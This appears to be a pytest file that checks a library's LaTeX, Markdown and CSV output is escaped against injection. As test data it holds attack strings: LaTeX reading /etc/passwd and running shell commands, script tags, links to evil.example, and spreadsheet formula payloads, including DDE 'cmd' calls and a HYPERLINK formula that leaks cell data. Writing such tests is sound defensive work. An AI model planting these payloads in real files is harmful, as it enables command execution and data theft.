"""Attacks on who reads results: by labels, prompts, reasons and files that others made."""

import ast
import csv
import io
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from lanzdml.datasets.manifest import write_excluded
from lanzdml.spreadsheet import guarded, plain, read_csv, to_csv
from lanzdml.tables.markup import Cell, Table, markdown_escape, markdown_note

LIBRARY = Path(__file__).parents[2] / "lanzdml"
BREAKS = ["\n", "\r", "\r\n", "\v", "\f", "\x1c", "\x85", "\u2028", "\u2029", "^^M", "^^0d"]


# LaTeX


@pytest.mark.parametrize("breaks", BREAKS, ids=ascii)
def test_no_line_of_latex_is_somebody_elses(breaks):
    attack = rf"a{breaks}\input{{/etc/passwd}}{breaks}\immediate\write18{{id}}%{breaks}\end{{x}}"
    table = Table(
        attack, [attack], [(attack,), ("b",)], [attack, "n"],
        [[Cell(attack, best=True), "1"], [attack, "2"]], [attack, attack], [attack],
    )  # fmt: skip
    lines = "\n".join(table.latex()).splitlines()
    assert lines == table.latex()
    ours = r"\\(tabular|begin|end|toprule|midrule|bottomrule|textbf|text\w+\{\}|[&%$#_{}\\])"
    for line in lines:
        if not line.startswith("%"):
            assert "\\" not in re.sub(ours, "", line)
            assert "^" not in line
            assert not re.search(r"(?<!\\)%", line)


# Markdown

TAGS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<http://evil.example>",
    "<!-- a", "<?php", "&lt;script&gt;", "&#60;script&#62;", "<\u200bscript>", "<a\nhref='x'>",
]  # fmt: skip
LINKS = [
    "[a](http://evil.example)", "![a](http://evil.example/x.png)", "[a[b]](http://evil.example)",
    "![a[b]](http://evil.example)", "[x]: http://evil.example", "[x][y]", "[^1]: a",
]  # fmt: skip


@pytest.mark.parametrize("attack", TAGS)
def test_no_reader_of_markdown_finds_a_tag(attack):
    for text in (markdown_escape(attack), markdown_note(attack)):
        # Neither those that know a backslash before it nor those that do not.
        assert not re.search(r"<(?! )|&(?!amp;|lt;)", text)


@pytest.mark.parametrize("attack", LINKS)
def test_no_reader_of_markdown_finds_a_link(attack):
    assert not re.search(r"(?<!\\)\][(:\[]", markdown_escape(attack))


HIDING = "\u202e\u202d\u2066\u2069\u200e\u200f\u061c\u200b\u2060\ufeff\xad\U000e0041"


def test_nothing_turns_or_hides_letters():
    table = Table("a", ["a"], [(f"re{HIDING}d",)], ["n"], [[f"{HIDING}x"]], [f"n{HIDING}"])
    for lines in (table.markdown(), table.latex()):
        assert not set(HIDING) & set("".join(lines))
        assert "red" in "".join(lines)
    joined = "نمی\u200cخواهم 👩\u200d🚀 क्\u200dष"
    assert markdown_escape(joined) == joined, "signs that letters of some scripts need"


# CSV

FORMULAS = [
    "=1+1", "=HYPERLINK(\"http://evil.example?\"&A1)", "+1+cmd|'/c calc'!A1", "-2+3+cmd|' /C x'!A0",
    "@SUM(1+1)*cmd|'x'!A1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1", "＝1+1", "＋1+a",
    "－a", "＠a", "a;=1+1;b", "a;=1+1", "a\n=1+1", "a\r\n@x", "a\t=1+1", '";=1+1', "'=1+1", "''",
    "-", "-1;=1+1", "a\r=1", "a; '=1", "-1\n=1",
]  # fmt: skip
HARMLESS = [
    "-0.12",
    "+1.2 ",
    "-1e-3",
    "a=1",
    "a-b",
    "1-2",
    "—",
    "rock, 'n' roll",
    "x@y.example",
    "",
]


def spreadsheet(text, separator, quotes):
    """The cells of a CSV as a spreadsheet has them that parts at a separator."""
    rows = (
        csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        if quotes
        else ([*line.split(separator)] for line in re.split("[\r\n]", text))
    )
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize("attack", FORMULAS, ids=ascii)
def test_no_spreadsheet_finds_a_formula(attack, tmp_path):
    frame = pd.DataFrame({"image_id": ["a"], attack: [attack], "n": [-0.5]})
    text = to_csv(frame)
    number = re.compile(r"[-+]?[\d.]+([eE][-+]?\d+)?")
    for separator in ",;\t":
        for quotes in (True, False):
            for cell in spreadsheet(text, separator, quotes):
                # What is within quotes that are no quotes begins with one, so is text.
                begins = re.match("[=+@＝＋－＠-]", cell.strip())
                assert not begins or number.fullmatch(cell.strip())
    (tmp_path / "a.csv").write_text(text, newline="")
    pd.testing.assert_frame_equal(read_csv(tmp_path / "a.csv"), frame)
    column = pd.read_csv(tmp_path / "a.csv").iloc[:, 1]
    as_said = column.str.replace(r"(^|[;\t\r\n])(\s*)'", r"\1\2", regex=True)
    assert as_said.tolist() == [attack], "as the documentation says"


def test_texts_come_back_whatever_they_hold():
    rng = np.random.default_rng(0)
    signs = list("=+-@'＝; \t\r\na1.e,\"|\u00a0")
    for text in [*FORMULAS, *HARMLESS, *map("".join, rng.choice(signs, (3000, 6)))]:
        assert plain(guarded(text)) == text
    assert [guarded(text) for text in HARMLESS] == HARMLESS


def test_texts_without_end_are_guarded_in_no_time():
    for part in ("\t", ";", "1", "'", "=", " ", "\n "):
        text = "-" + part * 200_000 + "x"
        assert plain(guarded(text)) == text


def test_excluded_images_are_no_formulas(tmp_path):
    attack = "=cmd|'/c calc'!A1"
    frame = pd.DataFrame({"image_id": [attack], "path": ["@a.png"], "reason": ["-x"]})
    write_excluded(tmp_path / "excluded.csv", frame)
    assert pd.read_csv(tmp_path / "excluded.csv").iloc[0].tolist() == [
        f"'{attack}",
        "'@a.png",
        "'-x",
    ]
    pd.testing.assert_frame_equal(read_csv(tmp_path / "excluded.csv"), frame)


def test_all_csv_is_written_in_one_place():
    writers = {
        path.relative_to(LIBRARY).as_posix()
        for path in LIBRARY.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Attribute) and node.attr == "to_csv"
    }
    assert writers == {"spreadsheet.py"}
    assert "csv.writer" not in "".join(path.read_text() for path in LIBRARY.rglob("*.py"))
